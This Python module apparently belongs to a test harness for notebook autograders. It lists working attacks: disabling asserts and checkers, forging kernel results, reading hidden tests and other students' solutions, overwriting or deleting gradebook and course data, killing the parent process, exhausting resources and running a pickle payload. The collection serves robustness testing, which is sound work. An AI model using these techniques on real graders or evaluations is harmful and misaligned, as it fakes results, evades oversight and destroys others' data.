"""The attacks that today's graders were measured with: they assume tests, gradebook and kernel within reach.

Texts that look for something print or raise what they find, which is what a feedback page would show.
"""

from __future__ import annotations

from autograder.proof.attack.model import WRONG, Attack, Link, cells, wrong_and

_STRIP = """
import ast

class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        return ast.Pass() if "assert" in ast.dump(node) else node

get_ipython().ast_transformers.append(Strip())
"""
_BLANK = """
blank = lambda lines: [] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(blank)
"""
_EQUAL = """
class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    __hash__ = None
    __array_priority__ = 1e9
    def __array__(self, *a, **k): raise TypeError
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return None
"""
_FIND = """
import glob, os
def find():
    loot = []
    places = [".", "..", "../..", "../../..", "/course", "/srv", "/home", os.path.expanduser("~"), "/tmp", "/"]
    for place in places:
        for pattern in ("*.ipynb", "source/*/*.ipynb", "release/*/*.ipynb", "hidden/*.py", "course/hidden/*.py"):
            for path in glob.glob(os.path.join(place, pattern)):
                try:
                    loot.append(open(path, errors="replace").read())
                except OSError:
                    pass
    return loot
"""
_DATABASE = """
import glob, os, sqlite3
def databases():
    places = [".", "..", "../..", "../../..", "/course", "/srv", "/home", "/tmp", os.path.expanduser("~")]
    return [path for place in places for path in glob.glob(os.path.join(place, "gradebook.db"))]
"""
_SCORE = 'connection.execute("UPDATE grade SET manual_score = 99, needs_manual_grade = 0")'

_TESTS = (
    Attack(
        "patched-assert",
        "numpy.testing's and pytest's comparisons become no-ops",
        wrong_and("""
            import numpy.testing
            for name in dir(numpy.testing):
                if name.startswith("assert"):
                    setattr(numpy.testing, name, lambda *args, **kwargs: None)
            """),
        naive="points",
    ),
    Attack(
        "stripped-asserts", "asserts of later cells are cut from their syntax trees", wrong_and(_STRIP), naive="points"
    ),
    Attack("input-transformer", "later cells are blanked before they run", wrong_and(_BLANK), naive="points"),
    Attack(
        "equal-to-everything",
        "answers are objects that are equal to everything",
        cells(_EQUAL + "add = mul = lambda x, y: Equal()\nneg = lambda x: Equal()"),
        naive="points",
    ),
    Attack(
        "reads-input-history",
        "the running test is read from In[] and reported",
        cells("def add(x, y):\n    raise ValueError(str(globals().get('In')))\nmul = neg = add"),
        naive="leak",
    ),
    Attack(
        "reads-own-notebook",
        "tests are read from notebooks in the working directory",
        cells(_FIND + "def add(x, y):\n    raise ValueError(str(find()))\nmul = neg = add"),
        naive="leak",
    ),
    Attack(
        "prints-what-it-finds",
        "source notebooks and tests are printed",
        wrong_and(_FIND + "print(find())"),
        naive="leak",
    ),
    Attack(
        "reads-gradebook",
        "the gradebook is read and reported",
        wrong_and(_DATABASE + "for path in databases():\n    print(open(path, 'rb').read())"),
        naive="leak",
    ),
    Attack(
        "pre-run-hook",
        "a hook of IPython prints every cell before it runs",
        wrong_and("get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))"),
        naive="leak",
    ),
    Attack(
        "executes-solutions-found",
        "the instructor's solutions are found and executed",
        cells(
            WRONG
            + _FIND
            + """
import json, re
for text in find():
    try:
        for cell in json.loads(text)["cells"]:
            source = "".join(cell["source"])
            if "BEGIN SOLUTION" in source and "def add" in source:
                exec(source)
    except Exception:
        pass
"""
        ),
        naive="points",
    ),
    Attack(
        "executes-other-submission",
        "another student's submission is found and executed",
        cells(
            WRONG
            + """
import glob, json
for pattern in ("../../../submitted/*/*/*.ipynb", "../../*/*/*.ipynb", "/course/*/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        for cell in json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def add" in source and "x + y" in source:
                print(source)
                exec(source)
"""
        ),
        naive="points",
    ),
)

_GRADEBOOK = (
    Attack(
        "writes-manual-score",
        "manual scores are written into the gradebook",
        wrong_and(
            _DATABASE + f"for path in databases():\n    with sqlite3.connect(path) as connection:\n        {_SCORE}"
        ),
        naive="damage",
    ),
    Attack(
        "installs-trigger",
        "a trigger in the gradebook sets every later score",
        wrong_and(
            _DATABASE
            + """for path in databases():
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 99; END")"""
        ),
        naive="damage",
    ),
    Attack(
        "daemon-edits-gradebook",
        "a process that outlives grading writes scores afterwards",
        wrong_and(
            _DATABASE
            + f"""
import time
if os.fork() == 0:
    os.setpgid(0, 0)
    if os.fork() == 0:
        for _ in range(200):
            for path in databases():
                with sqlite3.connect(path) as connection:
                    {_SCORE}
            time.sleep(0.05)
    os._exit(0)"""
        ),
        naive="damage",
    ),
    Attack(
        "deletes-course",
        "source, releases and other submissions are deleted",
        wrong_and("""
            import glob, os, shutil
            for place in ("..", "../..", "../../..", "/course", "/srv", "/work"):
                for name in ("source", "release", "submitted", "masters", "originals", ".grades"):
                    shutil.rmtree(os.path.join(place, name), ignore_errors=True)
            """),
        naive="damage",
    ),
    Attack(
        "appends-to-configuration",
        "code is appended to nbgrader_config.py",
        wrong_and("""
            import glob
            for pattern in ("../nbgrader_config.py", "../../../nbgrader_config.py", "/course/nbgrader_config.py"):
                for path in glob.glob(pattern):
                    try:
                        open(path, "a").write("import os")
                    except OSError:
                        pass
            """),
        naive="damage",
    ),
)

_PROCESS = (
    Attack(
        "os-exit",
        "the process is ended while its answers are looked at",
        wrong_and("import os\nos._exit(0)"),
        naive="stops",
    ),
    Attack(
        "kills-parent",
        "the parent process is killed",
        wrong_and(
            "import os, signal\nfor pid in (os.getppid(), 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError:\n        pass"
        ),
        naive="stops",
    ),
    Attack("endless-loop", "a loop in Python never ends", wrong_and("while True:\n    pass"), naive="hangs"),
    Attack("endless-loop-in-c", "a loop in C never ends", wrong_and("sum(range(10**15))"), naive="hangs"),
    Attack(
        "three-long-sleeps",
        "three cells sleep for just less than a usual limit each",
        wrong_and("import time\ntime.sleep(29)", "import time\ntime.sleep(29)", "import time\ntime.sleep(29)"),
        naive="hangs",
    ),
    Attack(
        "junk-on-descriptors",
        "junk is written to every descriptor, then the process ends",
        wrong_and("""
            import os
            for descriptor in range(1, 40):
                try:
                    os.write(descriptor, b"\\xff" * 4096)
                except OSError:
                    pass
            os._exit(1)
            """),
        naive="stops",
    ),
    Attack(
        "three-gigabytes", "3 GB of memory are taken and held", wrong_and("held = bytearray(3 * 10**9)"), naive="memory"
    ),
    Attack(
        "hundred-megabytes-printed", "100 MB are printed on one line", wrong_and("print('x' * 10**8)"), naive="output"
    ),
    Attack(
        "twenty-daemons",
        "20 processes leave the session and go on",
        wrong_and("""
            import os, time
            for _ in range(20):
                if os.fork() == 0:
                    os.setpgid(0, 0)
                    time.sleep(1000)
            """),
        naive="hangs",
    ),
    Attack(
        "loopback-connection",
        "a connection to a server on this machine is made",
        wrong_and(
            "import socket\nserver = socket.create_server(('127.0.0.1', 0))\n"
            "socket.create_connection(server.getsockname())\nprint('connected', 'to-loopback')"
        ),
        naive="socket",
    ),
    Attack(
        "abstract-socket",
        "an abstract socket is bound, which no file system guards",
        wrong_and(
            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0grader')\nprint('connected', 'to-loopback')"
        ),
        naive="socket",
    ),
    Attack(
        "thread-rewrites-namespace",
        "a thread puts other functions in the place of the answers and of the tests",
        wrong_and("""
            import builtins, threading, time
            def rewrite():
                while True:
                    for name in ("check", "expect", "assert_allclose", "approx"):
                        globals()[name] = lambda *args, **kwargs: True
                    time.sleep(0.001)
            threading.Thread(target=rewrite, daemon=True).start()
            time.sleep(0.05)
            """),
        naive="points",
    ),
)

_KERNEL = (
    Attack(
        "forged-result",
        "the display hook puts full marks in the place of every result",
        wrong_and("""
            import sys
            shell = get_ipython()
            shell.displayhook.__class__.__call__ = lambda self, result=None: print("score 3.0")
            """),
        naive="points",
    ),
    Attack(
        "patched-do-execute",
        "the kernel's do_execute reports success without running anything",
        wrong_and("shell = get_ipython()\nshell.kernel.do_execute = lambda *args, **kwargs: None"),
        naive="points",
    ),
    Attack(
        "patched-run-cell",
        "IPython's run_cell does nothing any more",
        wrong_and("type(get_ipython()).run_cell = lambda *args, **kwargs: None"),
        naive="points",
    ),
    Attack(
        "nan-as-score",
        "the check's name gives nan, a score that no comparison refuses",
        wrong_and("", "check = lambda *args: float('nan')\nassert_allclose = check"),
        naive="points",
    ),
    Attack(
        "text-as-score",
        "the check's name gives text, which some graders take for full marks",
        wrong_and("", "check = lambda *args: 'full marks'\nassert_allclose = check"),
        naive="points",
    ),
    Attack(
        "patched-checker",
        "whatever is called check, grade or Notebook in any module says passed",
        wrong_and("""
            import sys
            for module in list(sys.modules.values()):
                for name in ("check", "grade", "grade_all", "expect", "run_hidden_tests", "assert_allclose"):
                    if name in getattr(module, "__dict__", {}):
                        setattr(module, name, lambda *args, **kwargs: None)
            """),
        naive="points",
    ),
    Attack(
        "launcher-beside-notebook",
        "a file named like the kernel's module lies beside the notebook",
        cells(
            WRONG,
            beside={
                "ipykernel_launcher.py": b"raise SystemExit('ran in the place of the kernel')\n",
                "conftest.py": b"import os\nos._exit(0)\n",
                "numpy.py": b"import os\nos._exit(0)\n",
                "sitecustomize.py": b"import os\nos._exit(0)\n",
                "minigrad/__init__.py": b"import os\nos._exit(0)\n",
            },
        ),
    ),
    Attack(
        "symbolic-links",
        "links to the gradebook, the configuration and another submission are handed in",
        cells(
            WRONG,
            beside={
                "grades.db": Link("../../../gradebook.db"),
                "extra.ipynb": Link("../../neighbour/module0/00_fundamentals.ipynb"),
                "timestamp.txt": Link("../../../nbgrader_config.py"),
                "passwd.ipynb": Link("/etc/passwd"),
                "folder": Link("../../.."),
            },
        ),
    ),
    Attack(
        "pickled-result",
        "an object that runs code when it is unpickled is returned and printed",
        cells("""
            import base64, os, pickle
            class Run:
                def __reduce__(self):
                    return os.system, ("touch /tmp/unpickled-by-the-grader",)
            add = mul = lambda x, y: pickle.dumps(Run())
            neg = lambda x: Run()
            """),
    ),
)

STOCK: tuple[Attack, ...] = (*_TESTS, *_GRADEBOOK, *_PROCESS, *_KERNEL)
"""In the order of the table that they come from."""
